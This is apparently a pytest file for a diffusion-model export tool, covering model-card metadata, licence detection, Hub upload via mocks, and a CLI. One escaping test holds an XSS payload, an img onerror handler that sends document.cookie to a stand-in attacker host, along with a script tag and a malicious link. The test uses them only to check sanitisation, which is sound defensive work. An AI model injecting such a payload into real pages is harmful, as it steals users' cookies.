"""Export to a SiDAPipeline folder, the model card metadata, pushing to the Hub (patched) and the sida-export CLI."""

import contextlib
import json
from unittest import mock

import numpy as np
import PIL.Image
import pytest
import torch
from huggingface_hub import ModelCard

from sida_diffusers import hub
from sida_diffusers.cli import export as export_cli
from sida_diffusers.evaluation import parse_result_key, result_keys
from sida_diffusers.pipelines import EDM2_LATENT_SCALE, SiDAPipeline, np_to_uint8, seed_generators
from sida_diffusers.pretrained import declared_license
from sida_diffusers.run_record import RunRecord
from sida_diffusers.training.checkpointing import save_state

from conftest import tiny_edm, tiny_vae


RUN_INFO = {"method": "sida", "alpha": 1.0, "teacher": "edm-cifar10-32x32-cond-vp", "dataset": "cifar10-32x32.zip",
            "kimg": 217.9, "cur_nimg": 217920, "train_batch_size": 32, "total_batch_size": 256, "num_processes": 8,
            "init_sigma": 2.5, "tmax": 800, "id2label": {"0": "airplane", "1": "automobile", "2": "bird"},
            "label_dim": 3, "resolution": 8, "channels": 3, "latent": False,
            "metrics": {"fid_50k": 1.436, "fid_10k": 1.9}, "sampling": {}}


PUBLISHING = "sida_diffusers.pipelines.publishing"  # the one upload path: create_repo + upload_folder live there


def hub_that_accepts(role="write", token="stored-token"):
    """The Hub as check_push_access sees it, without a network: online (whatever HF_HUB_OFFLINE says: CI sets it), a
    stored token of `role`."""
    stack = contextlib.ExitStack()
    stack.enter_context(mock.patch("huggingface_hub.is_offline_mode", return_value=False))
    stack.enter_context(mock.patch("huggingface_hub.get_token", return_value=token))
    stack.enter_context(mock.patch("huggingface_hub.whoami",
                                   return_value={"name": "me", "auth": {"accessToken": {"role": role}}}))
    return stack


def load_card(card, tmp_path):
    card.save(tmp_path / "README.md")
    return ModelCard.load(tmp_path / "README.md")


def test_model_card_carries_hub_metadata_and_honest_metric_names(tmp_path):
    card = load_card(hub.make_model_card(RUN_INFO, repo_id="me/sida-cifar10-cond"), tmp_path)
    data = card.data
    assert data.library_name == "diffusers"
    assert data.pipeline_tag is None  # class-conditional: not tagged as an unconditional generator
    assert data.license == "cc-by-nc-sa-4.0"  # NVIDIA EDM teacher weights
    assert data.tags == ["sida", "one-step", "distillation", "edm", "class-conditional"]
    assert data.datasets == ["uoft-cs/cifar10"]
    assert data.base_model is None  # an NVIDIA pickle name is not a Hub model id
    results = {r.metric_name: (r.metric_type, r.metric_value) for r in data.eval_results}
    assert results == {"FID (50,000 samples)": ("fid", 1.436),
                       "FID (10,000 samples; proxy, not comparable to 50k-sample values)": ("fid", 1.9)}
    text = card.text
    assert 'SiDAPipeline.from_pretrained("me/sida-cifar10-cond")' in text and "class_labels=0" in text
    assert "| batch per GPU | 32 |" in text and "depends on the batch per GPU (32)" in text
    assert "| alpha | 1.0 |" in text and "| training images (kimg) | 217.9 |" in text
    assert {r.task_type for r in data.eval_results} == {"class-conditional-image-generation"}
    assert {r.dataset_name for r in data.eval_results} == {"cifar10-32x32.zip"}


def test_model_card_shows_both_loaders_the_teacher_beside_the_student_and_the_training_settings(tmp_path):
    run_info = {**RUN_INFO, "lr": 2e-5, "glr": 1e-5, "ema_halflife_kimg": 500, "warmup_kimg": 100,
                "adversarial_start_kimg": 200, "dropout": 0.1, "teacher_metrics": {"fid_50k": 1.79}, "teacher_nfe": 35}
    card = load_card(hub.make_model_card(run_info, repo_id="me/sida-c10"), tmp_path)
    text = card.text
    assert "pip install sida_diffusers" in text
    assert 'SiDAPipeline.from_pretrained("me/sida-c10")' in text
    assert 'DiffusionPipeline.from_pretrained("me/sida-c10", trust_remote_code=True)' in text
    assert "| metric | this model (1 NFE) | teacher (35 NFE) |" in text
    assert "| FID (50,000 samples) | 1.436 | 1.79 |" in text
    assert "| FID (10,000 samples; proxy, not comparable to 50k-sample values) | 1.9 | — |" in text
    for row in ("| learning rate, fake score / discriminator | 2e-05 |", "| learning rate, generator | 1e-05 |",
                "| EMA half-life (kimg) | 500 |", "| generator warm-up (kimg) | 100 |",
                "| adversarial loss from (kimg) | 200 |", "| dropout | 0.1 |", "| batch per GPU | 32 |"):
        assert row in text
    assert "@inproceedings{zhou2025sida" in text and "Zhou, Mingyuan and Zheng, Huangjie and Gu, Yi and Wang, " \
                                                     "Zhendong and Huang, Hai" in text
    assert {r.metric_value for r in card.data.eval_results} == {1.436, 1.9}  # the model-index is the student's


def test_model_card_leaves_out_settings_an_older_run_did_not_record(tmp_path):
    card = load_card(hub.make_model_card({"method": "sid", "teacher": "digits", "alpha": 1.2}), tmp_path)
    assert "| alpha | 1.2 |" in card.text and "learning rate" not in card.text and "teacher (" not in card.text


@pytest.mark.parametrize("teacher, license, base_model", [
    ("digits", "apache-2.0", None),  # a shipped teacher, by its exact name
    ("https://nvlabs-fi-cdn.nvidia.com/edm2/posthoc-reconstructions/edm2-img512-xs-2147483-0.135.pkl",
     "cc-by-nc-sa-4.0", None),
    ("edm2-img512-xs", "cc-by-nc-sa-4.0", None),
    ("someone/my-teacher", "other", "someone/my-teacher"),
    ("my-digits-teacher", "other", None),  # a name that merely contains "digits" declares nothing
    ("/data/edm-cifar10-32x32-cond-vp-copy", "other", None),
])
def test_license_comes_from_the_teachers_declared_licence_only(tmp_path, teacher, license, base_model):
    run_info = {"method": "sid2a", "teacher": teacher, "latent": True, "dataset": "img512-sd.zip"}
    card = load_card(hub.make_model_card(run_info), tmp_path)
    assert card.data.license == license and card.data.base_model == base_model
    assert card.data.tags == ["sida", "one-step", "distillation", "edm2", "unconditional", "sid2a"]
    assert card.data.pipeline_tag == "unconditional-image-generation"
    assert card.data.eval_results is None and "No metrics were recorded" in card.text
    if license == "other":
        assert card.data.license_name == "unknown-teacher-license"
        assert "is unknown to sida_diffusers: check the teacher's licence" in card.text


def test_a_teacher_folder_declares_its_licence_in_its_own_card(tmp_path):
    teacher = tmp_path / "my-digits-teacher"
    tiny_edm().save_pretrained(teacher)
    (teacher / "README.md").write_text("---\nlicense: other\nlicense_name: my-lab-licence\nlicense_link: "
                                       "https://example.org/licence\n---\nA teacher.\n")
    assert declared_license(str(teacher)) == ("other", "my-lab-licence", "https://example.org/licence")
    license, name, link = declared_license(str(teacher))
    record = RunRecord(teacher=str(teacher), teacher_license=license, teacher_license_name=name,
                       teacher_license_link=link)
    card = load_card(hub.make_model_card(record), tmp_path)
    assert (card.data.license, card.data.license_name, card.data.license_link) == (
        "other", "my-lab-licence", "https://example.org/licence")
    assert str(tmp_path) not in card.text  # a local teacher is shown by its name, not by the publisher's path


def test_every_string_of_the_record_is_escaped_in_the_card_body_and_front_matter(tmp_path):
    beacon = '<img src=x onerror="fetch(`https://evil.example/?c=`+document.cookie)">'
    run_info = {**RUN_INFO, "teacher": f"{beacon} [click](https://evil.example)", "dataset": f"**{beacon}** | x",
                "method": f"sida{beacon}", "metrics": {f"{beacon}_50k": 1.0, "fid_50k": 2.0},
                "teacher_metrics": {f"{beacon}_50k": 3.0}, "lr_scheduler": "# heading\n\n<script>alert(1)</script>"}
    card = hub.make_model_card(run_info, repo_id="me/x")
    text = str(card)
    for raw in ("<img", "<script", "](https://evil", "**<", "\n# heading", "onerror=\""):
        assert raw not in text, raw
    assert "&lt;img src=x onerror=&quot;fetch" in text and "\\[click\\]" in text
    loaded = load_card(card, tmp_path)  # the front matter still parses, and holds the escaped strings only
    names = {r.metric_name for r in loaded.data.eval_results} | {r.dataset_name for r in loaded.data.eval_results}
    assert all("<" not in name for name in names) and any("&lt;img" in name for name in names)
    assert "<" not in "".join(loaded.data.tags)


def test_fd_digits_is_named_as_a_proxy_not_fid():
    assert hub.describe_metric("fd_digits") == ("fd_digits", "FD-digits (proxy metric in a digits-classifier "
                                                             "feature space, not FID)")
    assert hub.describe_metric("fid", num_samples=50000) == ("fid", "FID (50,000 samples)")


def test_the_card_reads_metric_names_as_the_metric_suite_writes_them(tmp_path):
    """The default digits run evaluates fd_digits on all 1,797 digits; the card must call it FD-digits, not FID."""
    metrics = {key: 12.5 for name, count in (("fd_digits", 1797), ("fid", 50000), ("fid", 10000), ("pr", 50000))
               for key in result_keys(name, count)}
    assert sorted(metrics) == ["fd_digits_1797", "fid_10k", "fid_50k", "precision_50k", "recall_50k"]
    assert [parse_result_key(key) for key in sorted(metrics)] == [
        ("fd_digits", 1797), ("fid", 10000), ("fid", 50000), ("precision", 50000), ("recall", 50000)]
    card = load_card(hub.make_model_card({"method": "sida", "teacher": "digits", "metrics": metrics}), tmp_path)
    results = {r.metric_type: r.metric_name for r in card.data.eval_results if r.metric_type != "fid"}
    assert results == {"fd_digits": "FD-digits (1,797 samples; proxy metric in a digits-classifier feature space, "
                                    "not FID)",
                       "precision": "Precision (50,000 samples)", "recall": "Recall (50,000 samples)"}
    row = "| FD-digits (1,797 samples; proxy metric in a digits-classifier feature space, not FID) | 12.5 |"
    assert row in card.text


def test_export_writes_the_pipeline_grid_card_and_run_info(tmp_path):
    generator = tiny_edm(label_dim=3)
    pipe = hub.export_pipeline(generator, tmp_path / "out", RUN_INFO, grid_seeds=range(6))
    out = tmp_path / "out"
    assert (out / "unet" / "diffusion_pytorch_model.safetensors").is_file() and (out / "model_index.json").is_file()
    assert PIL.Image.open(out / "samples_grid.png").size == (24 * 11, 16 * 11)  # 6 images of 8x8 -> 3 x 2, >= 256 wide
    assert "![samples from the one-step generator](samples_grid.png)" in (out / "README.md").read_text()
    assert json.loads((out / "run_info.json").read_text())["kimg"] == 217.9
    assert pipe.config.id2label == {0: "airplane", 1: "automobile", 2: "bird"}
    loaded = SiDAPipeline.from_pretrained(out)
    np.testing.assert_array_equal(loaded(class_labels="bird", generator=seed_generators([1]), output_type="np").images,
                                  pipe(class_labels=2, generator=seed_generators([1]), output_type="np").images)
    grid = np.asarray(PIL.Image.open(out / "samples_grid.png"))
    first = np_to_uint8(pipe(generator=seed_generators([0]), output_type="np").images[0])
    np.testing.assert_array_equal(grid[:88:11, :88:11], first)  # seed 0 first, each pixel an 11x11 block
    np.testing.assert_array_equal(grid[:88, :88], first.repeat(11, axis=0).repeat(11, axis=1))


def test_export_of_a_latent_run_uses_the_edm2_latent_config_and_needs_a_vae(tmp_path):
    run_info = {"method": "sida", "teacher": "edm2-img512-xs", "latent": True, "init_sigma": 2.5}
    with pytest.raises(ValueError, match="no vae was given"):
        hub.export_pipeline(tiny_edm(channels=4, augment_dim=0), tmp_path / "x", run_info)
    pipe = hub.export_pipeline(tiny_edm(channels=4, augment_dim=0), tmp_path / "latent", run_info, vae=tiny_vae(),
                               grid_seeds=range(2))
    assert pipe.config.latent_scale == EDM2_LATENT_SCALE.tolist()
    assert PIL.Image.open(tmp_path / "latent" / "samples_grid.png").size == (32 * 8, 16 * 8)


def test_push_to_hub_creates_the_repo_then_uploads_the_folder(tmp_path):
    hub.export_pipeline(tiny_edm(), tmp_path, {"method": "sid", "teacher": "digits"}, grid=False)
    with mock.patch(f"{PUBLISHING}.create_repo") as create, \
            mock.patch(f"{PUBLISHING}.upload_folder", return_value="commit") as upload:
        create.return_value.repo_id = "me/sida-tiny"
        assert hub.push_to_hub(tmp_path, "me/sida-tiny", private=True, token="tok") == "commit"
    create.assert_called_once_with("me/sida-tiny", private=True, token="tok", exist_ok=True)
    kwargs = upload.call_args.kwargs
    assert kwargs["repo_id"] == "me/sida-tiny" and kwargs["folder_path"] == str(tmp_path)
    assert kwargs["token"] == "tok" and "checkpoint-*" in kwargs["ignore_patterns"]
    card = (tmp_path / "README.md").read_text()  # exported without a repo id: the push names it in the snippets
    assert 'SiDAPipeline.from_pretrained("me/sida-tiny")' in card and "path/to/this/folder" not in card


def uploaded_files(folder_path, **kwargs):
    """Stands in for huggingface_hub.upload_folder: what would have been uploaded, read before the folder is gone."""
    from pathlib import Path

    return {p.relative_to(folder_path).as_posix(): p.read_bytes() for p in Path(folder_path).rglob("*") if p.is_file()}


def test_pipeline_push_to_hub_uploads_the_package_card_grid_and_standalone_module(tmp_path):
    exported = hub.export_pipeline(tiny_edm(label_dim=3), tmp_path / "out", RUN_INFO, grid_seeds=range(4))
    pipe = SiDAPipeline.from_pretrained(tmp_path / "out")  # the card, grid and run_info come back with the pipeline
    assert pipe.model_card.data.library_name == "diffusers" and pipe.run_info["kimg"] == 217.9
    with mock.patch(f"{PUBLISHING}.create_repo") as create, \
            mock.patch(f"{PUBLISHING}.upload_folder", side_effect=lambda **kw: uploaded_files(**kw)) as upload:
        create.return_value.repo_id = "me/sida-tiny"
        files = pipe.push_to_hub("me/sida-tiny", private=True)
    create.assert_called_once_with("me/sida-tiny", private=True, token=None, exist_ok=True)
    assert upload.call_args.kwargs["repo_id"] == "me/sida-tiny"
    assert files["samples_grid.png"] == (tmp_path / "out" / "samples_grid.png").read_bytes()
    assert {"model_index.json", "sida_standalone.py", "unet/sida_unet.py", "run_info.json"} <= set(files)
    (tmp_path / "README.md").write_bytes(files["README.md"])
    card = ModelCard.load(tmp_path / "README.md")
    assert card.data.tags == ["sida", "one-step", "distillation", "edm", "class-conditional"]
    assert card.data.license == "cc-by-nc-sa-4.0" and "## Citation" in card.text
    assert 'SiDAPipeline.from_pretrained("me/sida-tiny")' in card.text  # the repo id replaces the placeholder
    assert "path/to/this/folder" in str(exported.model_card)


def test_save_pretrained_of_a_loaded_pipeline_keeps_its_card_and_grid(tmp_path):
    hub.export_pipeline(tiny_edm(), tmp_path / "out", {"method": "sid", "teacher": "digits"}, grid_seeds=range(2))
    SiDAPipeline.from_pretrained(tmp_path / "out").save_pretrained(tmp_path / "again")
    for name in ("README.md", "samples_grid.png", "run_info.json", "sida_standalone.py"):
        assert (tmp_path / "again" / name).read_bytes() == (tmp_path / "out" / name).read_bytes(), name


def test_push_to_hub_refuses_a_folder_that_was_not_exported(tmp_path):
    with mock.patch(f"{PUBLISHING}.create_repo") as create:
        with pytest.raises(FileNotFoundError, match="export_pipeline"):
            hub.push_to_hub(tmp_path, "me/x")
    create.assert_not_called()


# ---- sida-export ------------------------------------------------------------------------------------------------
def write_checkpoint(root, nimg, generator):
    ckpt = root / "checkpoints" / f"checkpoint-{nimg:09d}"
    generator.save_pretrained(ckpt / "generator_ema")
    save_state(ckpt, {"cur_nimg": nimg})
    (ckpt / "run_info.json").write_text(json.dumps({**RUN_INFO, "kimg": nimg / 1000, "cur_nimg": nimg}))
    return ckpt


def test_sida_export_uses_the_latest_checkpoint_of_a_trainer_output_dir(tmp_path, capsys):
    write_checkpoint(tmp_path / "run", 1000, tiny_edm(label_dim=3, seed=1))
    latest = tiny_edm(label_dim=3, seed=2)
    write_checkpoint(tmp_path / "run", 12000, latest)
    (tmp_path / "run" / "config.json").write_text(json.dumps({"method": "sida"}))  # the trainer's TrainConfig dump
    (tmp_path / "names.json").write_text(json.dumps({"0": "plane", "1": "car", "2": "bird"}))
    with hub_that_accepts("write"), mock.patch(f"{PUBLISHING}.create_repo") as create, \
            mock.patch(f"{PUBLISHING}.upload_folder") as upload:
        create.return_value.repo_id = "me/sida-run"
        code = export_cli.main([str(tmp_path / "run"), str(tmp_path / "dst"), "--id2label",
                                str(tmp_path / "names.json"), "--dataset", "uoft-cs/cifar10",
                                "--push-to-hub", "me/sida-run", "--device", "cpu"])
    assert code == 0 and upload.call_args.kwargs["folder_path"] == str(tmp_path / "dst")
    printed = capsys.readouterr().out
    assert "checkpoint-000012000" in printed and "samples_grid.png" in printed and "me/sida-run" in printed
    card = ModelCard.load(tmp_path / "dst" / "README.md")
    assert card.data.datasets == ["uoft-cs/cifar10"] and "| training images (kimg) | 12.0 |" in card.text
    pipe = SiDAPipeline.from_pretrained(tmp_path / "dst")
    assert pipe.labels == {"plane": 0, "car": 1, "bird": 2}
    with torch.no_grad():
        expected = latest(torch.ones(1, 3, 8, 8), 2.5, torch.tensor([1]))
    torch.testing.assert_close(pipe.unet(torch.ones(1, 3, 8, 8), 2.5, torch.tensor([1])), expected)


def test_sida_export_of_a_converted_generator_folder(tmp_path):
    tiny_edm().save_pretrained(tmp_path / "gen")
    assert export_cli.main([str(tmp_path / "gen"), str(tmp_path / "dst"), "--teacher", "edm-cifar10-32x32-uncond-vp",
                            "--method", "sid", "--no-grid", "--device", "cpu"]) == 0
    card = ModelCard.load(tmp_path / "dst" / "README.md")
    assert card.data.license == "cc-by-nc-sa-4.0" and "sid" in card.data.tags
    assert not (tmp_path / "dst" / "samples_grid.png").exists()


def test_sida_export_reports_a_source_that_is_not_a_checkpoint(tmp_path, capsys):
    (tmp_path / "empty").mkdir()
    with pytest.raises(SystemExit) as exit_info:
        export_cli.main([str(tmp_path / "empty"), str(tmp_path / "dst")])
    assert exit_info.value.code == 2 and "checkpoints/checkpoint-" in capsys.readouterr().err


def test_sida_export_checks_the_push_before_writing_anything(tmp_path, capsys):
    write_checkpoint(tmp_path / "run", 1000, tiny_edm(label_dim=3))
    with hub_that_accepts(token=None), pytest.raises(SystemExit) as exit_info:
        export_cli.main([str(tmp_path / "run"), str(tmp_path / "dst"), "--push-to-hub", "me/x", "--device", "cpu"])
    err = capsys.readouterr().err
    assert exit_info.value.code == 2 and err.count("\n") == 1 and "no Hugging Face token" in err
    assert not (tmp_path / "dst").exists()


def test_a_sida_export_push_that_fails_keeps_the_export_and_says_how_to_push_it(tmp_path, capsys):
    write_checkpoint(tmp_path / "run", 1000, tiny_edm(label_dim=3))
    with hub_that_accepts(), mock.patch(f"{PUBLISHING}.create_repo", side_effect=ConnectionError("no route")), \
            pytest.raises(SystemExit) as exit_info:
        export_cli.main([str(tmp_path / "run"), str(tmp_path / "dst"), "--push-to-hub", "me/x", "--no-grid",
                         "--device", "cpu"])
    err = capsys.readouterr().err
    assert exit_info.value.code == 2 and err.count("\n") == 1
    assert f"pushing to me/x failed (ConnectionError: no route); the pipeline is kept in {tmp_path / 'dst'}" in err
    assert SiDAPipeline.from_pretrained(tmp_path / "dst").run_info["cur_nimg"] == 1000


def test_an_export_with_the_21841_classes_of_imagenet21k_loads_again(tmp_path):
    classes = 21841
    id2label = {i: f"n{i:08d}, class number {i} of the winter twenty-one k release, a synonym" for i in range(classes)}
    run_info = {"method": "sida", "teacher": "me/teacher-21k", "label_dim": classes, "id2label": id2label}
    hub.export_pipeline(tiny_edm(label_dim=classes), tmp_path / "out", run_info, grid=False)
    assert (tmp_path / "out" / "model_index.json").stat().st_size > 1 << 20  # more than a config.json may hold
    pipe = SiDAPipeline.from_pretrained(tmp_path / "out")
    assert len(pipe.config.id2label) == classes and pipe.labels["n00021840"] == 21840
    assert pipe.get_label_ids("class number 21840 of the winter twenty-one k release") == [21840]
    assert len(RunRecord.read(tmp_path / "out").id2label) == classes
